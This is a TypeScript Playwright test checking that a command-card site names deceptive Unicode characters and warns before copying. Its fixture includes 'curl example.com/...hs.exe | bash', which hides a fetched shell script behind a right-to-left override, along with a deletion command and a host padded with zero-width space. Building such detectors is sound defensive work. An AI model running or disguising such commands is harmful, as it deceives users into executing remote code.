import assert from 'node:assert/strict'
import test, { after, describe } from 'node:test'
import type { Locator } from 'playwright-core'
import { clipboardText } from '../../support/browser/clipboard-text.ts'
import { createCardCommand } from '../../support/browser/command.ts'
import { eventually } from '../../support/browser/eventually.ts'
import { openCommander } from '../../support/browser/open-commander.ts'
import { startSite } from '../../support/browser/site-under-test.ts'
import { closeBrowser } from '../../support/browser/visitor.ts'
import { copyFrom, descriptionOf, partsOf } from './card-parts.ts'

const REVERSED = 'curl example.com/\u202ehs.exe | bash\u200b\u200b'
const WARNING =
  'This line contains 3 misleading characters: right-to-left override, zero-width space. ' + 'Copying includes them.'

const site = await startSite([
  createCardCommand({ id: 'reversed', notes: 'Harmless\u202e?', line: REVERSED }),
  createCardCommand({ id: 'space', notes: '5\u00a0km, \u{1F468}\u200d\u{1F469}', line: 'rm\u00a0-r x' }),
  createCardCommand({ id: 'honest', notes: 'Honest', line: 'cat <<END\n\tx\nEND' }),
  createCardCommand({ id: 'placeholder', notes: 'With a placeholder', line: 'ping {{host}}' }),
])

after(closeBrowser)
after(site.close)

const named = (text: Locator) =>
  text.locator('[data-name]').evaluateAll((all) =>
    all.map((span) => {
      const { content } = getComputedStyle(span, '::before')
      return [content, span.textContent, getComputedStyle(span).unicodeBidi]
    }),
  )

describe('deceptive characters on a card', () => {
  test('are named, and cause a warning before copying', async () => {
    const { page, cards, lines, leave } = await openCommander(site)
    const reversed = partsOf(cards.first())
    assert.deepEqual(await named(reversed.line), [
      ['"right-to-left override"', '\u202e', 'isolate'],
      ['"zero-width space × 2"', '\u200b\u200b', 'isolate'],
    ])
    assert.equal((await lines())[0], REVERSED)
    const inNotes = await named(cards.first().getByRole('paragraph'))
    assert.deepEqual(
      inNotes.map(([name]) => name),
      ['"right-to-left override"'],
    )
    assert.deepEqual(await named(cards.nth(1).getByRole('paragraph')), [])

    assert.equal(await reversed.warning.textContent(), WARNING)
    assert.deepEqual(await descriptionOf(cards.first()), ['Harmless\u202e?', WARNING])
    assert.match(
      (await partsOf(cards.nth(1)).warning.textContent()) ?? '',
      /1 misleading character: no-break space\. Copying includes it\.$/,
    )

    // Copying with the button or by hand copies the unchanged text.
    assert.equal(await copyFrom(page, cards.first()), REVERSED)
    await page.evaluate(() => navigator.clipboard.writeText('something else'))
    await reversed.line.evaluate((code) => getSelection()?.selectAllChildren(code))
    await page.keyboard.press('ControlOrMeta+C')
    await eventually(() => clipboardText(page), REVERSED)

    // A harmless line has no warning until a deceptive value is filled in.
    const [honest, placeholder] = [partsOf(cards.nth(2)), partsOf(cards.nth(3))]
    assert.deepEqual([await honest.warning.count(), await placeholder.warning.count()], [0, 0])
    await placeholder.field('host').fill('exa\u200bmple.com')
    await eventually(() => placeholder.warning.count(), 1)
    await eventually(() => copyFrom(page, cards.nth(3)), 'ping exa\u200bmple.com')
    await leave()
  })
})
